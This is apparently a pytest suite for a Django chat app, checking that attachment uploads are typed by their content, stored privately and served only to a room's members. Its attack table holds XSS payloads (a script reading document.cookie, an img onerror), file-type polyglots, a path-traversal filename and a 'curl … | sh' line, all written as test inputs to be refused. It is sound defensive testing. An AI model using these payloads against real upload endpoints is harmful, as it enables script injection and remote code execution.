"""Attachments are private (API.md 1.1): checked by content, stored privately, served only to the room."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image, PngImagePlugin

from oscar_chat.models import ChatMessage

from .conftest import make_user
from .factories import db_state, open_room

HTML = b"<html><body><script>fetch('/api/chat/rooms').then(r => r.text()).then(alert)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
    b"<script>alert(document.cookie)</script><rect width='8' height='8'/></svg>"
)


def png_bytes(text_chunk=None, size=(8, 8)):
    out = io.BytesIO()
    info = None
    if text_chunk is not None:
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", text_chunk)
    Image.new("RGB", size, "red").save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def upload(name, content, content_type):
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture
def room(customer):
    return open_room(customer, "Broken parcel")


def send_file(client, room, message_type, file, **extra):
    return client.post(
        f"/api/chat/rooms/{room.pk}", {"message_type": message_type, "file": file, **extra}, format="multipart"
    )


def stored_files(stores):
    return sorted(p for p in stores.media.parent.rglob("*") if p.is_file())


# What an attacker sends ------------------------------------------------------------------

ATTACKS = {
    "HTML as a FILE declared text/plain": ("FILE", "notes.txt", HTML, "text/plain"),
    "HTML as a FILE declared image/png": ("FILE", "photo.png", HTML, "image/png"),
    "HTML as an IMAGE declared image/png": ("IMAGE", "photo.png", HTML, "image/png"),
    "HTML after white space and a BOM, as text/plain": ("FILE", "a.txt", b"\xef\xbb\xbf \n " + HTML, "text/plain"),
    "HTML fragment inside text": ("FILE", "log.txt", b"order 12 shipped\n<img src=x onerror=alert(1)>\n", "text/plain"),
    "SVG as an IMAGE declared image/svg+xml": ("IMAGE", "logo.svg", SVG, "image/svg+xml"),
    "SVG as an IMAGE declared image/png": ("IMAGE", "logo.png", SVG, "image/png"),
    "SVG as a FILE": ("FILE", "logo.svg", SVG, "image/svg+xml"),
    "XML as a FILE": ("FILE", "data.txt", b"<?xml version='1.0'?><order id='1'/>", "text/plain"),
    "shell script as a FILE": ("FILE", "run.txt", b"#!/bin/sh\ncurl http://example.com | sh\n", "text/plain"),
    "GIF header then script (polyglot) as an IMAGE": ("IMAGE", "a.gif", b"GIF89a/*\x00\x00*/=1;" + HTML, "image/gif"),
    "GIF header then script (polyglot) as a FILE": ("FILE", "a.gif", b"GIF89a/*\x00\x00*/=1;" + HTML, "image/gif"),
    "valid PNG carrying HTML (polyglot) as an IMAGE": ("IMAGE", "p.png", png_bytes(HTML.decode()), "image/png"),
    "PDF header then HTML (polyglot) as a FILE": ("FILE", "i.pdf", b"%PDF-1.4\n" + HTML, "application/pdf"),
    "Windows program as a FILE": ("FILE", "setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "application/pdf"),
    "UTF-16 text as a FILE": ("FILE", "u.txt", "hello".encode("utf-16"), "text/plain"),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_content_that_could_run_is_refused_whatever_its_declared_type(api, customer, room, file_stores, attack):
    message_type, name, content, declared = attack
    before = db_state()
    response = send_file(api(customer), room, message_type, upload(name, content, declared))
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["file"][0]
    assert db_state() == before
    assert stored_files(file_stores) == []


def test_a_file_on_a_text_message_is_refused(api, customer, room, file_stores):
    response = api(customer).post(
        f"/api/chat/rooms/{room.pk}",
        {"message": "hi", "file": upload("x.html", HTML, "text/html")},
        format="multipart",
    )
    assert response.status_code == 400 and "file" in response.json()
    assert stored_files(file_stores) == []


@pytest.mark.parametrize(
    ("message_type", "name", "content", "declared", "stored_type"),
    [
        ("IMAGE", "red.png", png_bytes(), "text/html", "image/png"),
        ("FILE", "red.png", png_bytes(), "application/pdf", "image/png"),
        ("FILE", "invoice.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n", "text/html", "application/pdf"),
        ("FILE", "notes", b"Kirim ke Bandung, 2 < 3 kotak.\n", "image/svg+xml", "text/plain"),
    ],
)
def test_accepted_files_are_typed_by_their_content(
    api, customer, room, file_stores, message_type, name, content, declared, stored_type
):
    response = send_file(api(customer), room, message_type, upload(name, content, declared))
    assert response.status_code == 201
    attachment = response.json()["attachment"]
    assert (attachment["name"], attachment["content_type"], attachment["size"]) == (name, stored_type, len(content))


# Storage --------------------------------------------------------------------------------


def test_files_are_stored_privately_under_random_names(api, customer, room, file_stores, settings):
    response = send_file(api(customer), room, "FILE", upload("Invoice April.pdf", b"%PDF-1.4 tiny", "application/pdf"))
    assert response.status_code == 201
    assert not response.json()["attachment"]["url"].startswith(settings.MEDIA_URL)
    assert [p for p in file_stores.media.rglob("*") if p.is_file()] == []
    [stored] = [p for p in file_stores.private.rglob("*") if p.is_file()]
    assert "Invoice" not in stored.name and stored.suffix == ".pdf" and len(stored.stem) >= 24
    assert stored.read_bytes() == b"%PDF-1.4 tiny"


def test_the_default_storage_is_a_folder_beside_the_public_media(settings, tmp_path):
    from oscar_chat.attachments import attachment_storage

    settings.MEDIA_ROOT = str(tmp_path / "media")
    storage = attachment_storage()
    assert storage.location == str(tmp_path / "oscar_chat_private")


def test_a_system_check_refuses_attachments_inside_the_public_media(settings, tmp_path):
    from oscar_chat.attachments import check_attachment_storage

    settings.MEDIA_ROOT = str(tmp_path)
    settings.STORAGES = {
        **settings.STORAGES,
        "oscar_chat_attachments": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "chat")},
        },
    }
    assert [e.id for e in check_attachment_storage()] == ["oscar_chat.E101"]
    settings.STORAGES = {
        **settings.STORAGES,
        "oscar_chat_attachments": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path.parent / "elsewhere")},
        },
    }
    assert check_attachment_storage() == []


# The authorising view ---------------------------------------------------------------------


@pytest.fixture
def image_message(api, customer, room, file_stores):
    response = send_file(api(customer), room, "IMAGE", upload("red.png", png_bytes(), "image/png"))
    assert response.status_code == 201
    return response.json()


@pytest.fixture
def text_message(api, customer, room, file_stores):
    content = b"Nomor resi: JNE123\n"
    response = send_file(api(customer), room, "FILE", upload("resi.html", content, "text/html"))
    assert response.status_code == 201
    return response.json()


def session_client(user):
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("customer", 200),
        ("agent", 200),
        ("superuser", 200),
        ("other_customer", 404),
        ("viewer_staff", 404),
        ("anonymous", 401),
    ],
)
@pytest.mark.parametrize("auth", ["session", "jwt"])
def test_only_the_rooms_customer_and_agents_get_the_file(request, api, image_message, who, status, auth):
    if who == "viewer_staff":
        user = make_user("viewer", staff=True, perms=["view_chatroom"])
    elif who == "anonymous":
        user = None
    else:
        user = request.getfixturevalue(who)
    client = session_client(user) if auth == "session" else api(user)
    response = client.get(image_message["attachment"]["url"], HTTP_ACCEPT="image/avif,image/webp,*/*")
    assert response.status_code == status
    if status == 200:
        assert b"".join(response.streaming_content) == png_bytes()
    else:
        assert response["Content-Type"] == "application/json" and response.json()["detail"]


def test_verified_images_are_shown_inline_with_their_verified_type(api, customer, image_message):
    response = api(customer).get(image_message["attachment"]["url"])
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == 'inline; filename="red.png"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    assert "no-store" in response["Cache-Control"]


def test_other_files_are_downloads_named_for_their_content(api, agent, text_message):
    response = api(agent).get(text_message["attachment"]["url"])
    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    # Shown as "resi.html" in the chat; saved with the extension of what it is.
    assert text_message["attachment"]["name"] == "resi.html"
    assert response["Content-Disposition"] == 'attachment; filename="resi.html.txt"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"


def test_a_message_without_a_file_and_a_missing_file_are_404(api, customer, room, image_message, file_stores):
    text = api(customer).post(f"/api/chat/rooms/{room.pk}", {"message": "hi"}, format="json").json()
    assert api(customer).get(f"/api/chat/attachments/{text['id']}").status_code == 404
    for stored in file_stores.private.rglob("*.png"):
        stored.unlink()
    response = api(customer).get(image_message["attachment"]["url"])
    assert response.status_code == 404 and response.json()["detail"]


def test_names_are_cleaned_for_display_and_download(api, customer, room, file_stores):
    name = '../../etc/"quoted"\x07 name.txt'
    response = send_file(api(customer), room, "FILE", upload(name, b"plain", "text/plain"))
    # Django's upload handler already keeps only the base name; control characters go too.
    assert response.json()["attachment"]["name"] == '"quoted" name.txt'
    download = api(customer).get(response.json()["attachment"]["url"])
    assert download["Content-Disposition"] == 'attachment; filename="\\"quoted\\" name.txt"'


def test_history_links_to_the_authorising_view(api, customer, room, image_message):
    history = api(customer).get(f"/api/chat/rooms/{room.pk}").json()["results"]
    assert history[-1]["attachment"]["url"] == f"/api/chat/attachments/{image_message['id']}"
    assert ChatMessage.objects.get(pk=image_message["id"]).attachment.name.startswith("oscar_chat/")


def test_refusals_speak_the_requesters_language(api, customer, room, file_stores):
    response = api(customer).post(
        f"/api/chat/rooms/{room.pk}",
        {"message_type": "FILE", "file": upload("log.txt", b"ok\n<img src=x onerror=alert(1)>", "text/plain")},
        format="multipart",
        HTTP_ACCEPT_LANGUAGE="id",
    )
    assert response.status_code == 400
    assert response.json()["file"] == ["HTML, SVG, XML, dan skrip tidak diterima sebagai berkas."]
